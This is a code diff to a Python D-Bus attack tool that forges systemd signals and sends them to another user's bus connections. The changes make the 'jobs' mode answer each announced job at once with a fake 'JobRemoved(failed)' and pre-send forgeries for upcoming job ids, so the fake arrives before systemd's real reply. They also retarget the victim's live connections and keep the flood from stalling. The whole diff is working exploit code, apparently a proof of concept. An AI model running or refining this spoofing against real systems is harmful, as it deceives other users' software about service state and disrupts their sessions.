@@ -40,7 +40,8 @@ def unit_path(name: str) -> str:
 
 async def driver(bus: MessageBus, member: str, signature: str = "", body: Any = ()) -> Any:
     reply = await bus.call(Message(**DBUS, member=member, signature=signature, body=list(body)))
-    return reply.body[0] if reply and reply.message_type == MessageType.METHOD_RETURN else None
+    ok = reply is not None and reply.message_type == MessageType.METHOD_RETURN
+    return reply.body[0] if ok and reply.body else None
 
 
 async def targets(bus: MessageBus, uid: int, pid: int | None) -> list[str]:
@@ -67,6 +68,8 @@ class Forger:
                           serial=serial)
             await self.bus.send(msg)
             self.sent += 1
+            if self.sent % 50 == 0:  # a round trip: dbus-fast treats a full socket as fatal
+                await driver(self.bus, "GetId")
 
     async def props(self, unit: str, values: dict[str, Variant]) -> None:
         await self.signal(unit_path(unit), "org.freedesktop.DBus.Properties",
@@ -92,26 +95,30 @@ class Forger:
                                   [SYSTEMD, ":1.1", f":1.{100000 + i}"])
 
 
-async def spray_jobs(forger: Forger, bus: MessageBus, seconds: float) -> None:
-    """On every JobNew systemd announces, JobRemoved(failed) for it and the next 20 ids."""
+async def spray_jobs(forger: Forger, bus: MessageBus, seconds: float, uid: int) -> None:
+    """JobRemoved(failed) for every job systemd announces (JobNew), at once, and
+    every 20 ms for the next three ids, so the forgery arrives before the truth."""
     await driver(bus, "AddMatch", "s", [f"type='signal',sender='{SYSTEMD}',member='JobNew'"])
     await bus.call(Message(destination=SYSTEMD, path=MANAGER, interface=MANAGER_IFACE,
                            member="Subscribe"))
-    seen: asyncio.Queue[tuple[int, str]] = asyncio.Queue()
+    latest = [0, "trayapp-testd.service"]
 
     def on_message(msg: Message) -> None:
         if msg.member == "JobNew" and len(msg.body) == 3:
-            seen.put_nowait((msg.body[0], msg.body[2]))
+            latest[:] = [msg.body[0], msg.body[2]]
+            asyncio.get_running_loop().create_task(forger.job_removed(msg.body[0], msg.body[2]))
 
     bus.add_message_handler(on_message)
     end = time.monotonic() + seconds
-    while (left := end - time.monotonic()) > 0:
-        try:
-            job, unit = await asyncio.wait_for(seen.get(), left)
-        except TimeoutError:
+    for turn in itertools.count():
+        if time.monotonic() >= end:
             break
-        for ahead in range(21):
-            await forger.job_removed(job + ahead, unit)
+        if turn % 5 == 0:  # alice's commands come and go: aim at the ones running now
+            forger.dests = await targets(bus, uid, None)
+        if latest[0]:
+            for ahead in range(1, 4):
+                await forger.job_removed(int(latest[0]) + ahead, str(latest[1]))
+        await asyncio.sleep(0.02)
 
 
 def parse_value(text: str) -> tuple[str, Variant]:
@@ -140,7 +147,7 @@ async def main() -> None:
                 break
             await asyncio.sleep(0.2)
     elif args.mode == "jobs":
-        await spray_jobs(forger, bus, float(args.args[0]))
+        await spray_jobs(forger, bus, float(args.args[0]), args.uid)
     else:
         await forger.flood(int(args.args[0]))
     print(f"forged {forger.sent} messages to {len(dests)} connections: {' '.join(dests)}",
